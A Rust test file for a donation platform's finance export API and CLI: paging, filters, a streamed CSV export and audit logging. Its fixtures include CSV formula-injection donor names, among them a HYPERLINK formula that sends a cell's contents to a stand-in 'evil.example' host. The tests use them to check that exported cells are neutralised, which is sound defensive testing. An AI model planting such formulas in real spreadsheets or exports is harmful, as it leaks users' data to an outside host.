//! `GET /v1/finance/donations` and `quickdonate export donations`: every donation as finance
//! sees it, in pages, filtered, as CSV a spreadsheet opens safely, and from the command line.

use std::collections::HashSet;

use quickdonate::operators::access::Role;
use serde_json::{Value, json};
use time::OffsetDateTime;
use time::format_description::well_known::Rfc3339;
use uuid::Uuid;

use crate::finance_access::{audit_rows, get_as, get_with, stderr, stdout, token};
use crate::helpers::{
    StripeObjects, TestApp, assert_problem, donation_body, event, objects, problem_fields,
    spawn_app, spawn_app_with, stripe_creates_payment_intents,
};

fn now() -> i64 {
    OffsetDateTime::now_utc().unix_timestamp()
}

/// An app whose events are applied when the test says, with a fake Stripe that creates
/// PaymentIntents and serves what the test puts in `StripeObjects`.
async fn manual_app() -> (TestApp, StripeObjects) {
    let app = spawn_app_with(|s| s.apply_events = false).await;
    stripe_creates_payment_intents(&app).await;
    let stripe = StripeObjects::default();
    stripe.serve(&app).await;
    (app, stripe)
}

/// Creates a donation with `body` through the API; returns its id, PaymentIntent and total.
async fn donate(app: &TestApp, body: &Value) -> (Uuid, String, i64) {
    let response = app.post_donation("kashmir", body, None).await;
    assert_eq!(response.status(), 201);
    let created: Value = response.json().await.unwrap();
    (
        created["id"].as_str().unwrap().parse().unwrap(),
        created["payment_intent_id"].as_str().unwrap().to_owned(),
        created["total_amount"].as_i64().unwrap(),
    )
}

/// Pays the donation at Stripe with `fee` taken, as Stripe's signed events tell it; returns
/// the charge's id and its balance transaction's.
async fn pay(
    app: &TestApp,
    stripe: &StripeObjects,
    donation: Uuid,
    pi: &str,
    total: i64,
    fee: i64,
) -> (String, String) {
    let charge = format!("ch_{}", Uuid::new_v4().simple());
    let txn = format!("txn_{}", Uuid::new_v4().simple());
    let mut paid = objects::payment_intent(pi, Some(donation), "succeeded", total);
    paid["latest_charge"] = charge.clone().into();
    stripe.put(paid.clone());
    stripe.put(objects::charge(&charge, pi, total, 0, Some(&txn)));
    stripe.put(objects::balance_transaction(&txn, total, fee));
    let t0 = now() - 100;
    app.deliver(&event("payment_intent.succeeded", paid, t0))
        .await;
    let with_fee = objects::charge(&charge, pi, total, 0, Some(&txn));
    app.deliver(&event("charge.updated", with_fee, t0 + 1))
        .await;
    app.apply_events().await;
    (charge, txn)
}

/// Refunds all of a paid donation, as Stripe's events tell it.
async fn refund_all(
    app: &TestApp,
    stripe: &StripeObjects,
    pi: &str,
    (charge, txn): &(String, String),
    total: i64,
) {
    let refund = objects::refund(
        &format!("re_{}", Uuid::new_v4().simple()),
        charge,
        pi,
        total,
        "succeeded",
    );
    stripe.put(refund.clone());
    stripe.put(objects::charge(charge, pi, total, total, Some(txn)));
    app.deliver(&event("refund.created", refund, now() - 10))
        .await;
    app.apply_events().await;
}

/// `n` pending donations to `campaign` written straight to the table, a millisecond apart
/// from `start`: many rows, quickly.
async fn insert_donations(app: &TestApp, campaign: &str, n: i64, start: OffsetDateTime) {
    sqlx::query(
        "INSERT INTO donations (id, campaign, frequency, amount, cover_fees_amount,
                                total_amount, currency, donor_email, donor_first_name,
                                donor_last_name, created_at)
         SELECT gen_random_uuid(), $1, 'one_off', 1000 + g, 0, 1000 + g, 'gbp',
                'donor' || g || '@example.org', 'First' || g, 'Last' || g,
                $3 + g * interval '1 millisecond'
         FROM generate_series(1, $2) g",
    )
    .bind(campaign)
    .bind(n)
    .bind(start)
    .execute(&app.db)
    .await
    .unwrap();
}

async fn add_campaign(app: &TestApp, slug: &str) {
    sqlx::query(
        "INSERT INTO campaigns (slug, title, currency, min_amount, max_amount)
         VALUES ($1, 'Another campaign', 'gbp', 200, 1000000)",
    )
    .bind(slug)
    .execute(&app.db)
    .await
    .unwrap();
}

/// Every page of `path` (which has no cursor yet), `limit` at a time: each page's rows, and
/// the ids of all of them in order.
async fn all_pages(app: &TestApp, token: &str, path: &str) -> (Vec<Vec<Value>>, Vec<Value>) {
    let mut pages = Vec::new();
    let mut rows = Vec::new();
    let mut cursor: Option<String> = None;
    let separator = if path.contains('?') { '&' } else { '?' };
    loop {
        let url = match &cursor {
            None => path.to_owned(),
            Some(cursor) => format!("{path}{separator}cursor={cursor}"),
        };
        let response = get_as(app, Some(token), &url).await;
        assert_eq!(response.status(), 200, "{url}");
        let page: Value = response.json().await.unwrap();
        let data = page["data"].as_array().unwrap().clone();
        rows.extend(data.iter().cloned());
        pages.push(data);
        match page["next_cursor"].as_str() {
            Some(next) => cursor = Some(next.to_owned()),
            None => break,
        }
        assert!(pages.len() < 100, "the pages end");
    }
    (pages, rows)
}

/// The ids of the donations, in (created_at, id) order, as the database has them.
async fn ids_in_order(app: &TestApp, condition: &str) -> Vec<String> {
    let sql = format!("SELECT id::text FROM donations WHERE {condition} ORDER BY created_at, id");
    sqlx::query_scalar(sqlx::AssertSqlSafe(sql))
        .fetch_all(&app.db)
        .await
        .unwrap()
}

fn ids(rows: &[Value]) -> Vec<String> {
    rows.iter()
        .map(|row| row["id"].as_str().unwrap().to_owned())
        .collect()
}

async fn created_at(app: &TestApp, id: Uuid) -> String {
    let at: OffsetDateTime = sqlx::query_scalar("SELECT created_at FROM donations WHERE id = $1")
        .bind(id)
        .fetch_one(&app.db)
        .await
        .unwrap();
    at.format(&Rfc3339).unwrap()
}

#[tokio::test]
async fn each_row_shows_the_donation_its_donor_its_money_and_its_stripe_ids() {
    let (app, stripe) = manual_app().await;
    let finance = token(&app, "finance-team", Role::Finance).await;

    // A gift with the fee covered and Gift Aid declared, paid.
    let mut body = donation_body();
    body["cover_fees"] = json!(true);
    body["gift_aid"] = json!({"declared": true, "title": "Ms", "house_name_or_number": "10",
                              "postcode": "s19 2bd"});
    let (paid, paid_pi, paid_total) = donate(&app, &body).await;
    let (paid_charge, _) = pay(&app, &stripe, paid, &paid_pi, paid_total, 58).await;
    // A gift paid, then refunded in full.
    let mut body = donation_body();
    body["amount"] = json!(5000);
    body["donor"] = json!({"email": "bilal@example.org", "first_name": "Bilal",
                           "last_name": "Ahmed"});
    let (refunded, refunded_pi, refunded_total) = donate(&app, &body).await;
    let refunded_charge = pay(&app, &stripe, refunded, &refunded_pi, refunded_total, 95).await;
    refund_all(
        &app,
        &stripe,
        &refunded_pi,
        &refunded_charge,
        refunded_total,
    )
    .await;
    let refunded_charge = refunded_charge.0;
    // A gift never paid.
    let (pending, pending_pi, _) = donate(&app, &donation_body()).await;

    let response = get_as(&app, Some(&finance), "/v1/finance/donations").await;
    assert_eq!(response.status(), 200);
    assert_eq!(response.headers()["content-type"], "application/json");
    let page: Value = response.json().await.unwrap();
    assert_eq!(page["next_cursor"], Value::Null);
    let rows = page["data"].as_array().unwrap();
    assert_eq!(rows.len(), 3);
    assert_eq!(
        rows[0],
        json!({
            "id": paid.to_string(),
            "created_at": created_at(&app, paid).await,
            "campaign": "kashmir",
            "status": "succeeded",
            "donor": {"email": "amina@example.org", "first_name": "Amina", "last_name": "Khan"},
            "amount": 2500,
            "cover_fees_amount": paid_total - 2500,
            "total_amount": paid_total,
            "currency": "gbp",
            "fee": 58,
            "net": paid_total - 58,
            "settlement_currency": "gbp",
            "refunded_amount": 0,
            "dispute_status": null,
            "gift_aid": true,
            "payment_intent_id": paid_pi,
            "charge_id": paid_charge,
            "payout_id": null,
            "recovered": false,
        })
    );
    assert!(paid_total > 2500, "the fee was covered: {paid_total}");
    assert_eq!(
        rows[1],
        json!({
            "id": refunded.to_string(),
            "created_at": created_at(&app, refunded).await,
            "campaign": "kashmir",
            "status": "refunded",
            "donor": {"email": "bilal@example.org", "first_name": "Bilal", "last_name": "Ahmed"},
            "amount": 5000,
            "cover_fees_amount": 0,
            "total_amount": 5000,
            "currency": "gbp",
            "fee": 95,
            "net": 4905,
            "settlement_currency": "gbp",
            "refunded_amount": 5000,
            "dispute_status": null,
            "gift_aid": false,
            "payment_intent_id": refunded_pi,
            "charge_id": refunded_charge,
            "payout_id": null,
            "recovered": false,
        })
    );
    assert_eq!(
        rows[2],
        json!({
            "id": pending.to_string(),
            "created_at": created_at(&app, pending).await,
            "campaign": "kashmir",
            "status": "pending",
            "donor": {"email": "amina@example.org", "first_name": "Amina", "last_name": "Khan"},
            "amount": 2500,
            "cover_fees_amount": 0,
            "total_amount": 2500,
            "currency": "gbp",
            "fee": null,
            "net": null,
            "settlement_currency": null,
            "refunded_amount": 0,
            "dispute_status": null,
            "gift_aid": false,
            "payment_intent_id": pending_pi,
            "charge_id": null,
            "payout_id": null,
            "recovered": false,
        })
    );
    let created = OffsetDateTime::parse(rows[0]["created_at"].as_str().unwrap(), &Rfc3339);
    assert!(created.is_ok(), "RFC 3339");

    let status = |s: &str| format!("/v1/finance/donations?status={s}");
    for (filter, expected) in [
        ("succeeded", vec![paid]),
        ("refunded", vec![refunded]),
        ("pending", vec![pending]),
        ("failed", vec![]),
    ] {
        let page: Value = get_as(&app, Some(&finance), &status(filter))
            .await
            .json()
            .await
            .unwrap();
        let expected: Vec<String> = expected.iter().map(Uuid::to_string).collect();
        assert_eq!(ids(page["data"].as_array().unwrap()), expected, "{filter}");
    }
}

#[tokio::test]
async fn pages_hold_every_row_once_in_order_and_filters_select() {
    let app = spawn_app().await;
    let finance = token(&app, "finance-team", Role::Finance).await;
    add_campaign(&app, "gaza").await;
    // Whole seconds, so each row's time is exact in Postgres's microseconds.
    let t0 = OffsetDateTime::from_unix_timestamp(now() - 86_400).unwrap();
    insert_donations(&app, "kashmir", 1200, t0).await;
    insert_donations(&app, "gaza", 30, t0 + time::Duration::seconds(10)).await;
    // Rows sharing one created_at: the id orders them, and no page boundary loses one.
    sqlx::query(
        "UPDATE donations SET created_at = $1
         WHERE id IN (SELECT id FROM donations WHERE campaign = 'gaza'
                      ORDER BY created_at LIMIT 7)",
    )
    .bind(t0 + time::Duration::seconds(5))
    .execute(&app.db)
    .await
    .unwrap();
    sqlx::query(
        "UPDATE donations SET status = 'succeeded' WHERE campaign = 'gaza'
         AND donor_first_name IN ('First1', 'First2', 'First3')",
    )
    .execute(&app.db)
    .await
    .unwrap();

    let (pages, rows) = all_pages(&app, &finance, "/v1/finance/donations?limit=1000").await;
    assert_eq!(pages.iter().map(Vec::len).collect::<Vec<_>>(), [1000, 230]);
    assert_eq!(ids(&rows), ids_in_order(&app, "true").await);

    let (pages, rows) = all_pages(
        &app,
        &finance,
        "/v1/finance/donations?campaign=gaza&limit=3",
    )
    .await;
    assert_eq!(pages.len(), 10);
    let got = ids(&rows);
    assert_eq!(got, ids_in_order(&app, "campaign = 'gaza'").await);
    assert_eq!(got.iter().collect::<HashSet<_>>().len(), 30, "no row twice");
    let (pages, rows) = all_pages(&app, &finance, "/v1/finance/donations").await;
    assert_eq!(
        (pages.len(), rows.len()),
        (13, 1230),
        "100 a page by default"
    );

    let (_, succeeded) = all_pages(
        &app,
        &finance,
        "/v1/finance/donations?campaign=gaza&status=succeeded&limit=2",
    )
    .await;
    assert_eq!(succeeded.len(), 3);
    assert!(
        succeeded
            .iter()
            .all(|r| r["campaign"] == "gaza" && r["status"] == "succeeded")
    );

    // from is inclusive, to exclusive.
    let at = |ms: i64| {
        (t0 + time::Duration::milliseconds(ms))
            .format(&Rfc3339)
            .unwrap()
    };
    let window = format!(
        "/v1/finance/donations?campaign=kashmir&from={}&to={}&limit=1000",
        at(100),
        at(200)
    );
    let (_, rows) = all_pages(&app, &finance, &window).await;
    let names: Vec<&str> = rows
        .iter()
        .map(|r| r["donor"]["first_name"].as_str().unwrap())
        .collect();
    assert_eq!(names.len(), 100, "{names:?}");
    assert_eq!((names[0], names[99]), ("First100", "First199"));
    // The same window written with another offset.
    let shifted = (t0 + time::Duration::milliseconds(100))
        .to_offset(time::macros::offset!(+5:30))
        .format(&Rfc3339)
        .unwrap()
        .replace('+', "%2B");
    let (_, rows) = all_pages(
        &app,
        &finance,
        &format!("/v1/finance/donations?campaign=kashmir&from={shifted}&limit=1000"),
    )
    .await;
    assert_eq!(rows.len(), 1101);

    let problem = assert_problem(
        get_as(
            &app,
            Some(&finance),
            "/v1/finance/donations?campaign=nowhere",
        )
        .await,
        404,
        "not-found",
    )
    .await;
    assert_eq!(problem_fields(&problem), ["campaign"]);
    let problem = assert_problem(
        get_as(&app, Some(&finance), "/v1/finance/donations?status=paid").await,
        400,
        "bad-parameter",
    )
    .await;
    assert_eq!(problem_fields(&problem), ["status"]);
}

/// What the CSV export's text cells hold, read back with the csv crate.
fn read_csv(body: &str) -> (Vec<String>, Vec<csv::StringRecord>) {
    let mut reader = csv::Reader::from_reader(body.as_bytes());
    let header = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    (header, reader.records().map(Result::unwrap).collect())
}

const CSV_HEADER: [&str; 21] = [
    "id",
    "created_at",
    "campaign",
    "status",
    "donor_email",
    "donor_first_name",
    "donor_last_name",
    "amount",
    "cover_fees_amount",
    "total_amount",
    "currency",
    "fee",
    "net",
    "settlement_currency",
    "refunded_amount",
    "dispute_status",
    "gift_aid",
    "payment_intent_id",
    "charge_id",
    "payout_id",
    "recovered",
];

/// Donors whose names a spreadsheet would run, or a naive CSV writer would break on.
const NASTY: [(&str, &str); 8] = [
    ("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "Khan"),
    ("+1", "-2"),
    ("@x", "=1+1"),
    ("\tTab", "\rCR"),
    ("Khan, \"Amina\"", "O'Brien"),
    ("Line\nbreak", "Comma,Quote\"Both"),
    ("-500", "Smith"),
    ("Amina", "Khan"),
];

#[tokio::test]
async fn csv_quotes_every_awkward_cell_and_no_cell_is_a_formula() {
    let (app, stripe) = manual_app().await;
    let finance = token(&app, "finance-team", Role::Finance).await;
    let mut created = Vec::new();
    for (first, last) in NASTY {
        let (id, pi, total) = donate(&app, &donation_body()).await;
        // Set here, not through the form: the form refuses control characters, but a CSV
        // writer must never trust that every row came through it.
        sqlx::query(
            "UPDATE donations SET donor_first_name = $2, donor_last_name = $3 WHERE id = $1",
        )
        .bind(id)
        .bind(first)
        .bind(last)
        .execute(&app.db)
        .await
        .unwrap();
        created.push((id, pi, total));
    }
    let (paid, paid_pi, paid_total) = &created[0];
    pay(&app, &stripe, *paid, paid_pi, *paid_total, 58).await;

    let response = get_with(
        &app,
        Some(&finance),
        "/v1/finance/donations",
        &[("accept", "text/csv")],
    )
    .await;
    assert_eq!(response.status(), 200);
    assert_eq!(
        response.headers()["content-type"],
        "text/csv; charset=utf-8"
    );
    let disposition = response.headers()["content-disposition"].to_str().unwrap();
    assert!(
        disposition.starts_with("attachment; filename=\"donations-")
            && disposition.ends_with(".csv\""),
        "{disposition}"
    );
    let body = response.text().await.unwrap();
    assert!(body.ends_with("\r\n"), "RFC 4180 records end in CRLF");
    let (header, records) = read_csv(&body);
    assert_eq!(header, CSV_HEADER);
    assert_eq!(records.len(), NASTY.len());

    let safe = |name: &str| {
        if name.starts_with(['=', '+', '-', '@', '\t', '\r']) {
            format!("'{name}")
        } else {
            name.to_owned()
        }
    };
    for (record, ((id, pi, total), (first, last))) in records.iter().zip(created.iter().zip(NASTY))
    {
        assert_eq!(&record[0], id.to_string(), "rows in order");
        assert_eq!(&record[5], safe(first), "first name {first:?}");
        assert_eq!(&record[6], safe(last), "last name {last:?}");
        assert_eq!(&record[4], "amina@example.org");
        assert_eq!(&record[17], pi.as_str());
        // Amounts are numbers, never neutralised.
        assert_eq!(&record[7], "2500");
        assert_eq!(&record[9], total.to_string());
        for cell in record.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell a spreadsheet would run: {cell:?}"
            );
        }
    }
    let paid_row = &records[0];
    assert_eq!(
        (
            &paid_row[3],
            &paid_row[11],
            &paid_row[12],
            &paid_row[13],
            &paid_row[16]
        ),
        ("succeeded", "58", "2442", "gbp", "false")
    );
    assert_eq!(
        (&records[1][3], &records[1][11], &records[1][18]),
        ("pending", "", ""),
        "no fee or charge yet: empty cells"
    );

    // The same rows as the JSON pages.
    let (_, json_rows) = all_pages(&app, &finance, "/v1/finance/donations").await;
    let csv_ids: Vec<String> = records.iter().map(|r| r[0].to_owned()).collect();
    assert_eq!(csv_ids, ids(&json_rows));

    // Filters apply; paging does not: the export is the whole filtered set.
    let response = get_with(
        &app,
        Some(&finance),
        "/v1/finance/donations?status=succeeded",
        &[("accept", "text/csv")],
    )
    .await;
    let (_, records) = read_csv(&response.text().await.unwrap());
    assert_eq!(records.len(), 1);
    for refused in ["limit=10", "cursor=abc"] {
        let response = get_with(
            &app,
            Some(&finance),
            &format!("/v1/finance/donations?{refused}"),
            &[("accept", "text/csv")],
        )
        .await;
        let problem = assert_problem(response, 400, "bad-parameter").await;
        assert_eq!(
            problem_fields(&problem),
            [refused.split('=').next().unwrap()]
        );
    }
    let audited: Vec<_> = audit_rows(&app)
        .await
        .into_iter()
        .filter(|row| row.2 == "GET /v1/finance/donations (csv)")
        .collect();
    assert_eq!(audited.len(), 2, "{audited:?}");
    assert_eq!(audited[1].3, json!({"status": "succeeded"}));
}

/// Whether the export's query is still running at the database.
async fn export_query_running(app: &TestApp) -> bool {
    sqlx::query_scalar(
        "SELECT count(*) > 0 FROM pg_stat_activity
         WHERE datname = current_database() AND pid <> pg_backend_pid()
           AND state = 'active' AND query LIKE '%FROM donations d%'",
    )
    .fetch_one(&app.db)
    .await
    .unwrap()
}

#[tokio::test]
async fn a_csv_export_streams_from_the_database_as_the_client_reads() {
    let app = spawn_app().await;
    let finance = token(&app, "finance-team", Role::Finance).await;
    let t0 = OffsetDateTime::now_utc() - time::Duration::days(1);
    const ROWS: usize = 100_000;
    insert_donations(&app, "kashmir", ROWS as i64, t0).await;
    let mut response = get_with(
        &app,
        Some(&finance),
        "/v1/finance/donations",
        &[("accept", "text/csv")],
    )
    .await;
    assert_eq!(response.status(), 200);
    // The first rows are here while the database is still reading the rest: nothing holds
    // the whole set, and a client that stops reading holds the read up.
    let mut body = response.chunk().await.unwrap().unwrap().to_vec();
    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    assert!(
        export_query_running(&app).await,
        "the export's query still runs while the client has read only {} bytes",
        body.len()
    );
    while let Some(chunk) = response.chunk().await.unwrap() {
        body.extend_from_slice(&chunk);
    }
    let (_, records) = read_csv(std::str::from_utf8(&body).unwrap());
    assert_eq!(records.len(), ROWS);
    let got: Vec<String> = records.iter().map(|r| r[0].to_owned()).collect();
    assert_eq!(got, ids_in_order(&app, "true").await);
    let mut counted = 0;
    for _ in 0..250 {
        counted = audit_rows(&app).await[0].4;
        if counted == ROWS as i64 {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
    assert_eq!(counted, ROWS as i64, "the audit log has the rows sent");
    assert!(!export_query_running(&app).await);
}

#[tokio::test]
async fn the_command_line_exports_the_apis_rows_and_is_audited() {
    let (app, stripe) = manual_app().await;
    let finance = token(&app, "finance-team", Role::Finance).await;
    for (first, last) in NASTY.iter().take(6) {
        let (id, _, _) = donate(&app, &donation_body()).await;
        sqlx::query(
            "UPDATE donations SET donor_first_name = $2, donor_last_name = $3 WHERE id = $1",
        )
        .bind(id)
        .bind(first)
        .bind(last)
        .execute(&app.db)
        .await
        .unwrap();
    }
    let (paid, pi, total) = donate(&app, &donation_body()).await;
    pay(&app, &stripe, paid, &pi, total, 58).await;

    let export = |args: &[&str]| {
        let mut command = vec!["export", "donations"];
        command.extend_from_slice(args);
        std::process::Command::new(env!("CARGO_BIN_EXE_quickdonate"))
            .args(&command)
            .env_clear()
            .env("PATH", std::env::var_os("PATH").unwrap_or_default())
            .env("NO_COLOR", "1")
            .env("RUST_LOG", "info")
            .env("USER", "finance-clerk")
            .env("DATABASE_URL", &app.database_url)
            .env(
                "CAMPAIGNS_FILE",
                concat!(env!("CARGO_MANIFEST_DIR"), "/config/campaigns.toml"),
            )
            .output()
            .unwrap()
    };

    let json_out = export(&["--format", "json"]);
    assert!(json_out.status.success(), "{}", stderr(&json_out));
    let exported: Value = serde_json::from_slice(&json_out.stdout).expect("one JSON array");
    let (_, api_rows) = all_pages(&app, &finance, "/v1/finance/donations").await;
    assert_eq!(exported, Value::Array(api_rows.clone()));
    assert_eq!(
        stdout(&json_out).lines().count(),
        api_rows.len() + 2,
        "a row to a line"
    );
    assert!(
        stderr(&json_out).contains("7 donation(s) exported"),
        "{}",
        stderr(&json_out)
    );
    assert!(
        !stderr(&json_out).contains("/7 donations"),
        "no progress bar when stderr is not a terminal"
    );

    let csv_out = export(&["--format", "csv"]);
    assert!(csv_out.status.success(), "{}", stderr(&csv_out));
    let api_csv = get_with(
        &app,
        Some(&finance),
        "/v1/finance/donations",
        &[("accept", "text/csv")],
    )
    .await
    .text()
    .await
    .unwrap();
    assert_eq!(stdout(&csv_out), api_csv, "byte for byte the API's CSV");
    let (header, records) = read_csv(&stdout(&csv_out));
    assert_eq!(header, CSV_HEADER);
    assert_eq!(
        &records[0][5],
        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
    );

    let filtered = export(&[
        "--format",
        "json",
        "--status",
        "succeeded",
        "--campaign",
        "kashmir",
        "--from",
        "2020-01-01T00:00:00Z",
    ]);
    assert!(filtered.status.success(), "{}", stderr(&filtered));
    let rows: Value = serde_json::from_slice(&filtered.stdout).unwrap();
    assert_eq!(ids(rows.as_array().unwrap()), [paid.to_string()]);
    let none = export(&["--format", "json", "--status", "failed"]);
    assert_eq!(stdout(&none), "[]\n");

    let audited: Vec<_> = audit_rows(&app)
        .await
        .into_iter()
        .filter(|row| row.2 == "export donations (cli)")
        .collect();
    assert_eq!(audited.len(), 4);
    assert_eq!(audited[0].0, "cli:finance-clerk");
    assert_eq!(audited[0].1, "admin");
    assert_eq!(audited[0].3, json!({"format": "json"}));
    assert_eq!(audited[0].4, 7);
    assert_eq!(
        audited[2].3,
        json!({"format": "json", "status": "succeeded", "campaign": "kashmir",
               "from": "2020-01-01T00:00:00Z"})
    );
    assert_eq!(audited[2].4, 1);
    assert_eq!(audited[3].4, 0);

    for (args, named) in [
        (vec!["--format", "csv", "--from", "2026-11-29"], "--from"),
        (
            vec!["--format", "csv", "--to", "2026-11-29T00:00:00"],
            "--to",
        ),
        (
            vec!["--format", "csv", "--campaign", "nowhere"],
            "--campaign",
        ),
        (vec!["--format", "csv", "--status", "paid"], "--status"),
        (
            vec![
                "--format",
                "csv",
                "--from",
                "2026-11-30T00:00:00Z",
                "--to",
                "2026-11-29T00:00:00Z",
            ],
            "--from",
        ),
        (vec!["--format", "xml"], "--format"),
    ] {
        let refused = export(&args);
        assert!(!refused.status.success(), "{args:?}");
        assert!(
            stderr(&refused).contains(named),
            "{args:?}: {}",
            stderr(&refused)
        );
        assert!(stdout(&refused).is_empty(), "{args:?}");
    }
}
